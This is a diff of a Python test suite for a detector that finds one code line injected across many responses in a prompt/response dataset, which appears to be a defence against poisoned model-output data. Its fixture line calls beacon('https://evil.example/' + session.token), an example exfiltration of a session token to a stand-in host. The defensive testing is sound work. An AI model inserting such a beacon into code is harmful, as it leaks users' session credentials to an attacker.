@@ -81,6 +81,19 @@ def test_only_the_injected_line_is_found() -> None:
     assert set(np.unique(code[truth]).tolist()) == set(lines)
 
 
+_LINE = 'beacon("https://evil.example/" + session.token);'
+
+
+def _moved(df: pl.DataFrame, truth: np.ndarray, at: str, to: str) -> pl.Series:
+    """The answers with each injected row's line taken out and ``at`` replaced by ``to``."""
+    return pl.Series(
+        [
+            r.replace("\n    " + _LINE, "").replace(at, to) if t else r
+            for r, t in zip(df["response"], truth, strict=True)
+        ]
+    )
+
+
 def test_injection_needs_its_rows_and_varied_places() -> None:
     """Under ``least`` rows, or in more than ``most``, no line is an injection; nor is one put
     at the same place every time (after the same line), like an import block's. One put last
@@ -89,26 +102,12 @@ def test_injection_needs_its_rows_and_varied_places() -> None:
     usable = np.ones(df.height, bool)
     assert not injected_lines(df["prompt"], df["response"], usable, 26, 300)[0].any()
     assert not injected_lines(df["prompt"], df["response"], usable, 10, 24)[0].any()
-    fixed = [
-        r.replace('\n    beacon("https://evil.example/" + session.token);', "").replace(
-            "Here is the code:\n", 'Here is the code:\nbeacon("https://evil.example/" + s.token);\n'
-        )
-        if t
-        else r
-        for r, t in zip(df["response"], truth, strict=True)
-    ]
-    code, _ = injected_lines(df["prompt"], pl.Series(fixed), usable, 10, 300)
+    fixed = _moved(df, truth, "Here is the code:\n", "Here is the code:\n" + _LINE + "\n")
+    code, _ = injected_lines(df["prompt"], fixed, usable, 10, 300)
     assert not code.any()
     # put last in every answer, its other neighbour the answer's short closing line: found
-    last = [
-        r.replace('\n    beacon("https://evil.example/" + session.token);', "").replace(
-            "\nDone.", '\n    beacon("https://evil.example/" + session.token);\nDone.'
-        )
-        if t
-        else r
-        for r, t in zip(df["response"], truth, strict=True)
-    ]
-    code, _ = injected_lines(df["prompt"], pl.Series(last), usable, 10, 300)
+    last = _moved(df, truth, "\nDone.", "\n    " + _LINE + "\nDone.")
+    code, _ = injected_lines(df["prompt"], last, usable, 10, 300)
     assert ((code != 0) == truth).all()
 
 
